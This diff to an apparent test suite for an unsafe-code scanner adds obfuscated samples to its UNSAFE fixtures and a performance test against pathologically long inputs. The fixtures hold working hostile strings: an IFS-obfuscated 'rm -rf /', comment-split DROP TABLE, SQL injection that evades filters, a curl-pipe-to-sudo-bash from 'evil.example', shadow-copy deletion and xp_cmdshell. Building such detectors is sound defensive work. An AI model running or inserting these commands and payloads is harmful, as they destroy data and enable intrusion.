@@ -19,6 +19,7 @@ UNSAFE = {
         "iptables -F",
         "vssadmin delete shadows /all",
         "del /f /s /q C:\\Windows",
+        "rm${IFS}-rf${IFS}/",
     ],
     "shell_fetched": [
         "curl -sSL http://evil.example/i.sh | sudo bash",
@@ -51,6 +52,7 @@ UNSAFE = {
     ],
     "sql_destructive": [
         "DROP TABLE users;",
+        "DROP/* gone */TABLE users;",
         "truncate table orders",
         "DELETE FROM orders;",
         "delete from orders where 1=1",
@@ -68,6 +70,8 @@ UNSAFE = {
         "1; EXEC xp_cmdshell 'dir'",
         "1' AND SLEEP(5)#",
         "SELECT 1 INTO OUTFILE '/var/www/x.php'",
+        "1'/**/or/**/1=1--",
+        "1 union/*!50000*/all/**/select null",
     ],
 }
 SAFE = [
@@ -126,3 +130,23 @@ def test_findings_lie_in_the_text_in_order_and_apart(text):
     for each in UnsafeCode().find(text):
         assert last <= each.start < each.end <= len(text)
         last = each.end
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "drop" + "\n" * 200_000,
+        "delete from " * 20_000,
+        "rm -r " * 40_000,
+        "curl " * 40_000 + "|",
+        "/*" * 100_000,
+        "' or " * 40_000,
+        "update a set " + "b " * 100_000,
+        "eval(" * 40_000,
+        "'" + " " * 200_000 + "or",
+        "os.system('" * 20_000,
+    ],
+)
+def test_hostile_text_is_read_to_its_end(text):
+    # What grew with the square of the length would not end here in any patience.
+    assert all(each.end <= len(text) for each in UnsafeCode().find(text))
